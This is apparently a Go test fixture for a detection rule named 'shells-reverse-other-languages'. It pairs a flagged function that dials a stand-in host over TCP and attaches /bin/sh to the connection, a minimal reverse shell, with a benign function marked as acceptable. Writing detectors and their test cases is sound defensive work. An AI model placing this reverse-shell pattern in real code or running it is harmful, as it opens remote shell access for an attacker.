package main

func away() {
	// ruleid: shells-reverse-other-languages
	c, _ := net.Dial("tcp", "a.invalid:99")
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = c
	cmd.Run()
}

func asks() {
	// ok: shells-reverse-other-languages
	r, _ := http.Get("https://a.invalid/v1")
	exec.Command("git", "status").Run()
}
